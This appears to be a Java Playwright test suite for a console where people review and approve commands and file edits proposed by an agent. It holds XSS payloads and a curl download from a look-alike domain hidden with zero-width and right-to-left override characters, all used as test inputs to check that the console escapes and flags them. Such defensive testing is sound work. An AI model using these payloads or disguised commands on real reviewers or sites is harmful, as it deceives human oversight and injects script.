package dev.syndicate.approval.console;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import dev.syndicate.approval.voting.ApprovalState;
import dev.syndicate.contracts.id.ApprovalId;
import dev.syndicate.contracts.json.JsonObject;
import dev.syndicate.contracts.policy.Risk;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** What would run is shown as it is, however it tries to look, and however large it is. */
class ConsoleReadingIT extends ConsoleBrowserIT {

    private static final String SCRIPT = "<script>document.title='broken'</script><img src=x onerror=alert(1)>";

    @Test
    void approvesHiddenCharactersOnlyAfterEachWasLookedAt() {
        ApprovalId approval =
                ask(proposed().command("curl https://get.\u0430cme.dev/x.sh -o /tmp/x\u200B.sh # \u202Eylno-daer"));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(riley.page().locator(".texts .esc")).containsText(new String[] {"U+0430", "U+200B", "U+202E"});
            riley.sees(".note.bad h2", "3 hidden or look-alike characters");
            riley.sees(".texts .esc[aria-label='U+200B ZERO WIDTH SPACE']");
            riley.read();
            riley.sees("[data-why-text]", "Look at the flagged characters first: 0 of 3 done.");
            riley.page().locator("[data-look]").all().forEach(box -> box.check());
            riley.approve();
            riley.sees(".note.good");
        }
        assertThat(view(approval).state()).isEqualTo(ApprovalState.GRANTED);
    }

    @Test
    void coloursCommandsAndChangesNoCharacter() {
        String command = "FOO=1 kubectl get pods | jq -r '.items[] | select(.a != \"b\")'";
        ApprovalId approval = ask(proposed().command(command));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(riley.page().locator(".texts .t-cmd")).hasText(new String[] {"kubectl", "jq"});
            assertThat(riley.find(".texts .code .line")).hasText(command);
            assertThat((String) riley.page()
                            .evaluate("() => getComputedStyle(document.querySelector('.code')).fontVariantLigatures"))
                    .isEqualTo("none");
        }
    }

    @Test
    void showsAnEditAsChangesInTwoWays() {
        ApprovalId approval = ask(proposed().edit("a.yml", "on: push\nrun: a\n", "on: push\nrun: b\nmore: c\n"));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(riley.page().locator(".unified tr.added")).hasCount(2);
            assertThat(riley.page().locator(".unified tr.removed .t-changed")).hasText("a");
            riley.page().locator("label:has(input[value=split])").click();
            assertThat(riley.find(".diff-box.split")).isVisible();
            assertThat(riley.find(".diff-box.unified")).isHidden();
            riley.approve();
            riley.sees(".note.good");
        }
    }

    @Test
    void showsScriptsInEveryFieldAsText() {
        ApprovalId approval = ask(proposed()
                .by("dana", SCRIPT)
                .mcp(SCRIPT, SCRIPT, JsonObject.builder().put(SCRIPT, SCRIPT).build())
                .judged(Risk.LOW, 1, SCRIPT, SCRIPT));
        try (Reader riley = signIn("riley")) {
            riley.page().onDialog(dialog -> {
                throw new AssertionError("A script ran: " + dialog.message());
            });
            riley.go("/?show=all&q=%3Cscript%3E");
            riley.sees("[data-row]");
            assertThat(riley.page().title()).doesNotContain("broken");
            riley.open(approval);
            riley.sees(".tree", "<script>document.title='broken'</script>");
            assertThat((Number)
                            riley.page().evaluate("() => document.querySelectorAll('main script, main img').length"))
                    .isEqualTo(0);
            riley.go("/history?q=" + "%22%3E%3Cscript%3E");
            riley.sees("h1", "History");
        }
    }

    @Test
    void deniesButDoesNotApproveWhatIsTooLarge() {
        ApprovalId approval =
                ask(proposed().command("echo one more line\n".repeat(80)).reviewLimit(50));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            riley.sees("#why-not", "the policy's review limit is 50");
            riley.sees(".cut");
            riley.shoot("detail-too-large");
            riley.button("Deny").click();
            riley.sees(".note.good");
        }
    }

    @Test
    void staysUsableWithACommandOfAMegabyte() {
        ApprovalId approval = ask(proposed().command("echo " + "x".repeat(1_000_000)));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            riley.sees("#why-not", "the policy's review limit");
            riley.button("Deny").click();
            riley.sees(".note.good");
        }
    }

    @Test
    void staysUsableWithADiffOfAHundredThousandLinesAndBinaryText() {
        String lines = IntStream.range(0, 50_000)
                .mapToObj(n -> n % 100 == 0 ? "a\u0000\u001b[31m\uFFFD" : "a")
                .collect(Collectors.joining("\n"));
        ApprovalId approval = ask(proposed().edit("blob.bin", lines, lines.replace("a", "b")));
        try (Reader riley = signIn("riley")) {
            riley.go("/?show=all&q=blob.bin");
            riley.sees("[data-row]");
            riley.open(approval);
            riley.sees("#why-not", "the policy's review limit");
            riley.sees(".cut", "not shown");
            riley.button("Deny").click();
            riley.sees(".note.good");
        }
        assertThat(view(approval).state()).isEqualTo(ApprovalState.DENIED);
    }
}
